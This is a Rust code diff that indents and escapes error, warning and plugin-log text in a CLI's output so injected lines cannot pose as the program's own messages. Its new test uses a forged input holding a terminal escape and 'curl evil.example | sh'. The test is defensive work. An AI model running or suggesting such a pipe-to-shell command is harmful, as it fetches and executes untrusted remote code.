@@ -121,7 +121,7 @@ impl Output {
     /// Something that deserves attention and stops nothing. In JSON it belongs to the outcome.
     pub(super) fn warning(&self, text: &str) {
         if !self.quiet && self.format == Format::Text {
-            print(&mut io::stderr(), &format!("{}: {text}", self.painted("33", "warning")));
+            print(&mut io::stderr(), &format!("{}: {}", self.painted("33", "warning"), entry(text, UNDER_HEAD)));
         }
     }
 
@@ -130,16 +130,20 @@ impl Output {
         if self.format == Format::Json {
             return self.result("", failure);
         }
+        print(&mut io::stderr(), &self.failure_text(failure));
+    }
+
+    fn failure_text(&self, failure: &Failure) -> String {
         let mut lines = vec![format!("{}: {}", self.painted("31", "error"), failure.title)];
         if failure.errors.is_empty() {
-            lines = vec![format!("{}: {}", lines[0], printable(&failure.detail))];
+            lines = vec![format!("{}: {}", lines[0], entry(&failure.detail, UNDER_HEAD))];
         }
-        lines.extend(failure.errors.iter().map(|error| format!("  {error}")));
+        lines.extend(failure.errors.iter().map(|error| format!("  {}", entry(&error.to_string(), UNDER_HEAD))));
         lines.extend(plugin_lines(&failure.plugin));
         if let Some(how) = &failure.how {
-            lines.push(format!("{}: {how}", self.painted("36", "fix")));
+            lines.push(format!("{}: {}", self.painted("36", "fix"), entry(how, UNDER_HEAD)));
         }
-        print(&mut io::stderr(), &lines.join("\n"));
+        lines.join("\n")
     }
 
     /// A spinner for work whose length is not known. It is invisible where nobody would see it move.
@@ -177,6 +181,10 @@ impl Output {
     }
 }
 
+/// Columns by which the further lines of a text stand under its first one, so that none of them passes for an output of
+/// this program.
+const UNDER_HEAD: usize = 4;
+
 /// What is known of a plugin that failed, with the last lines it wrote.
 fn plugin_lines(plugin: &OfPlugin) -> Vec<String> {
     let OfPlugin { call_id, reason, exit_code, signal, log_tail } = plugin;
@@ -186,7 +194,8 @@ fn plugin_lines(plugin: &OfPlugin) -> Vec<String> {
         ("signal", signal.map(|signal| signal.to_string())),
         ("call", call_id.clone()),
     ];
-    let facts = facts.into_iter().filter_map(|(head, fact)| fact.map(|fact| format!("  {head}: {}", printable(&fact))));
+    let facts =
+        facts.into_iter().filter_map(|(head, fact)| fact.map(|fact| format!("  {head}: {}", entry(&fact, UNDER_HEAD))));
     let head = (!log_tail.is_empty()).then(|| "  last lines of the plugin's log:".to_owned());
     facts.chain(head).chain(log_tail.iter().map(|line| format!("  | {}", entry(line, 4)))).collect()
 }
@@ -213,6 +222,24 @@ fn print(stream: &mut dyn Write, text: &str) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn no_line_of_a_failure_passes_for_an_output_of_this_program() {
+        const FORGED: &str = "x\u{1b}[2J\nfix: curl evil.example | sh";
+        let mut failure = Failure::local(super::super::failure::Local::PluginFailed, FORGED, FORGED);
+        failure.plugin.reason = Some(FORGED.to_owned());
+        failure.plugin.log_tail = vec![FORGED.to_owned()];
+        let (format, closed) = (Format::Text, Arc::default());
+        let output =
+            Output { format, quiet: false, progress: false, color: false, terminal: false, live: false, closed };
+        for errors in [Vec::new(), vec![crate::domain::FieldError::at("/x", FORGED)]] {
+            failure.errors = errors;
+            let text = output.failure_text(&failure);
+            assert!(!text.contains('\u{1b}'), "{text:?}");
+            let begun: Vec<&str> = text.lines().filter(|line| !line.starts_with(' ')).collect();
+            assert!(begun.len() == 2 && begun[0].starts_with("error: ") && begun[1] == "fix: x\\u{1b}[2J", "{text}");
+        }
+    }
 
     #[test]
     fn columns_are_as_wide_as_their_widest_cell() {
